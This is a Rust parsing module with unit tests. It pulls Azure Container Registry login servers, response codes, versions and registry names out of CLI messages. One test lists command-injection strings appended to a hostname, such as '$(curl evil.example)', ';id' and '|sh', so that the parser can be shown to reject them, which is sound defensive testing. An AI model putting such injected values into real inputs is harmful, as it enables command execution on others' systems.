//! Small readers for the values the CLI puts in its messages: quoted names, login servers,
//! HTTP status codes, registry names on a command line.

use crate::values::{is_registry_name as plain_name, AZURE_REGISTRY_SUFFIXES as SUFFIXES};

/// The text inside the quotes that follow `marker`: `quoted_after("registry 'a.io'", "registry ")`.
pub fn quoted_after(text: &str, marker: &str) -> Option<String> {
    let start = text.find(marker)? + marker.len();
    let rest = text[start..].strip_prefix(['\'', '"'])?;
    let end = rest.find(['\'', '"'])?;
    Some(rest[..end].to_owned())
}

/// The text between `start` and the next `end`.
pub fn between(text: &str, start: &str, end: &str) -> Option<String> {
    let from = text.find(start)? + start.len();
    let rest = &text[from..];
    let to = rest.find(end).unwrap_or(rest.len());
    Some(rest[..to].trim().to_owned())
}

/// The whitespace-delimited word after `marker`.
pub fn word_after(text: &str, marker: &str) -> Option<String> {
    let from = text.find(marker)? + marker.len();
    text[from..].split_whitespace().next().map(str::to_owned)
}

/// The registry named with `-n`/`--name` on an `az acr …` command line, unless it is a placeholder.
pub fn find_registry_name_in_command(text: &str) -> Option<String> {
    let mut words = text.split_whitespace();
    while let Some(w) = words.next() {
        let value = if w == "-n" || w == "--name" || w == "--registry" || w == "-r" {
            words.next()
        } else {
            w.strip_prefix("--name=")
        };
        if let Some(v) = value {
            let v = v.trim_matches(|c| matches!(c, '\'' | '"' | '`'));
            return plain_name(v).then(|| v.to_owned());
        }
    }
    None
}

/// What every login server holds, in every cloud: a text without it names none.
pub(super) const LOGIN_SERVER_MARK: &str = ".azurecr.";

/// The first login server (`name.azurecr.io`, a data endpoint, another cloud) in free text.
pub fn find_login_server(text: &str) -> Option<String> {
    // Most lines name none: a look at each `.` is cheaper than a substring search.
    if !text
        .match_indices('.')
        .any(|(i, _)| text[i..].starts_with(LOGIN_SERVER_MARK))
    {
        return None;
    }
    let mut best: Option<(usize, String)> = None;
    for suffix in SUFFIXES {
        let Some(at) = text.find(suffix) else {
            continue;
        };
        let head = &text[..at];
        let start = head
            .rfind(|c: char| {
                !(c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '*' | '<' | '>' | '_'))
            })
            .map_or(0, |i| {
                i + head[i..].chars().next().map_or(1, char::len_utf8)
            });
        // A host glued to shell syntax (`r.azurecr.io$(…)`, `r.azurecr.io;…`, `` r.azurecr.io`id` ``)
        // is not a host; a closing markdown backtick (`` `r.azurecr.io` ``) is fine.
        let mut after = text[at + suffix.len()..].chars();
        let glued = match after.next() {
            Some('$' | '(' | ';' | '|' | '&' | '{' | '\\') => true,
            Some('`') => after
                .next()
                .is_some_and(|c| c.is_alphanumeric() || matches!(c, '$' | '(' | '{')),
            _ => false,
        };
        if glued {
            continue;
        }
        let mut host = text[start..at + suffix.len()].to_owned();
        // `<redacted>` stays whole, but a stray `>` from a prompt does not belong to the name.
        if host.starts_with('>') {
            host.remove(0);
        }
        if host.len() > suffix.len() && best.as_ref().is_none_or(|(i, _)| start < *i) {
            best = Some((start, host));
        }
    }
    best.map(|(_, h)| h)
}

/// A login server for `registry 'X'`/`Registry 'X'` in a message: `X` if it has a dot.
pub fn server_or_name_in_message(text: &str) -> (Option<String>, Option<String>) {
    let quoted = quoted_after(text, "registry ").or_else(|| quoted_after(text, "Registry "));
    match quoted {
        Some(q) if q.contains('.') => (Some(q), None),
        Some(q) => {
            let name = plain_name(&q).then_some(q);
            (find_login_server(text), name)
        }
        None => (find_login_server(text), None),
    }
}

/// The status in `Response code: 403`.
pub fn response_code(text: &str) -> Option<u16> {
    let from = text.find("Response code:")? + "Response code:".len();
    let digits: String = text[from..]
        .trim_start()
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    (digits.len() == 3).then(|| digits.parse().ok()).flatten()
}

/// The first `x.y.z` in a version line.
pub fn semver_in(text: &str) -> Option<(u32, u32, u32)> {
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i].is_ascii_digit()
            && (i == 0
                || !bytes[i - 1].is_ascii_alphanumeric()
                || matches!(bytes[i - 1], b'v' | b'V'))
        {
            let rest = &text[i..];
            let end = rest
                .find(|c: char| !(c.is_ascii_digit() || c == '.'))
                .unwrap_or(rest.len());
            let mut parts = rest[..end].split('.').map(str::parse::<u32>);
            if let (Some(Ok(a)), Some(Ok(b)), Some(Ok(c))) =
                (parts.next(), parts.next(), parts.next())
            {
                return Some((a, b, c));
            }
            i += end.max(1);
        } else {
            i += 1;
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::values::{is_private_ipv4, registry_name_of};

    #[test]
    fn every_login_server_suffix_holds_the_mark() {
        for suffix in SUFFIXES {
            assert!(suffix.contains(LOGIN_SERVER_MARK), "{suffix}");
        }
    }

    #[test]
    fn login_servers_in_every_cloud_and_redacted() {
        assert_eq!(
            find_login_server("DNS lookup to a1.azurecr.io at"),
            Some("a1.azurecr.io".into())
        );
        assert_eq!(
            find_login_server("url 'https://x.azurecr.cn/v2/'"),
            Some("x.azurecr.cn".into())
        );
        assert_eq!(
            find_login_server("to ***.azurecr.us"),
            Some("***.azurecr.us".into())
        );
        assert_eq!(
            find_login_server("'<redacted>.azurecr.io'"),
            Some("<redacted>.azurecr.io".into())
        );
        assert_eq!(
            find_login_server("c.westeurope.data.azurecr.io"),
            Some("c.westeurope.data.azurecr.io".into())
        );
        assert_eq!(find_login_server("azurecr.io"), None);
        assert_eq!(find_login_server("é.azurecr.io"), None);
        assert_eq!(
            find_login_server("😀a.azurecr.io"),
            Some("a.azurecr.io".into())
        );
        assert_eq!(
            registry_name_of("c.westeurope.data.azurecr.io"),
            Some("c".into())
        );
        assert_eq!(registry_name_of("***.azurecr.io"), None);
    }

    #[test]
    fn a_host_glued_to_shell_syntax_is_not_a_login_server() {
        for hostile in [
            "r.azurecr.io$(curl evil.example)",
            "r.azurecr.io;id",
            "r.azurecr.io|sh",
            "r.azurecr.io&&id",
            "r.azurecr.io`id`",
            "r.azurecr.io${IFS}",
        ] {
            assert_eq!(find_login_server(hostile), None, "{hostile}");
        }
        assert_eq!(
            find_login_server("the registry `r.azurecr.io` is down"),
            Some("r.azurecr.io".into())
        );
        assert_eq!(registry_name_of("r.azurecr.io$(id)"), None);
        assert_eq!(registry_name_of("r.azurecr.io:443"), Some("r".into()));
    }

    #[test]
    fn values_in_messages() {
        assert_eq!(
            response_code("denied. Response code: 429. Please"),
            Some(429)
        );
        assert_eq!(response_code("Response code: 4"), None);
        assert_eq!(
            semver_in("Docker version 19.03.9, build 9d98"),
            Some((19, 3, 9))
        );
        assert_eq!(semver_in("Version:\"v3.0.1\""), Some((3, 0, 1)));
        assert_eq!(semver_in("build 9d988398e7"), None);
        assert_eq!(semver_in("3.7.2"), Some((3, 7, 2)));
        assert_eq!(
            find_registry_name_in_command("az acr check-health -n <registry-name> --yes"),
            None
        );
        assert_eq!(
            find_registry_name_in_command("az acr login --name=foo"),
            Some("foo".into())
        );
    }
    #[test]
    fn private_addresses() {
        assert!(is_private_ipv4("172.30.2.6"));
        assert!(is_private_ipv4("10.10.0.5"));
        assert!(!is_private_ipv4("172.32.0.1"));
        assert!(!is_private_ipv4("20.62.128.0"));
        assert!(!is_private_ipv4("<IP>"));
    }
}
